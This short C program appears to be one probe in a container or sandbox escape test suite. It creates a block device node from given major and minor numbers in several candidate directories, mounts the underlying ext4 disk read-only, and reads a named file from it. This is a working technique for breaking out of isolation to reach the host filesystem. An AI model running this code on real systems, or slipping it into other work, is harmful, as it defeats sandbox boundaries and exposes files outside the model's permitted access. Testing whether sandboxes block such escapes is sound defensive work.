/* disk MAJOR MINOR FILE: makes a block device node, mounts the filesystem on it, and reads FILE there. */
#include "way.h"

int main(int argc, char **argv) {
    (void)argc;
    mkdir("/tmp/escape-disk", 0700);
    for (const char *const *place = PLACES; *place; place++) {
        char path[64];
        snprintf(path, sizeof path, "%s/escape-node", *place);
        if (mknod(path, S_IFBLK | 0600, makedev(atoi(argv[1]), atoi(argv[2]))) < 0) {
            perror(path);
            continue;
        }
        int mounted = mount(path, "/tmp/escape-disk", "ext4", MS_RDONLY, 0);
        if (mounted < 0)
            perror("mount");
        unlink(path);
        int directory = mounted < 0 ? -1 : open("/tmp/escape-disk", O_RDONLY);
        if (directory >= 0 && tell_at(directory, argv[3])) {
            close(directory);
            umount2("/tmp/escape-disk", MNT_DETACH);
            return 0;
        }
    }
    held("mount");
}
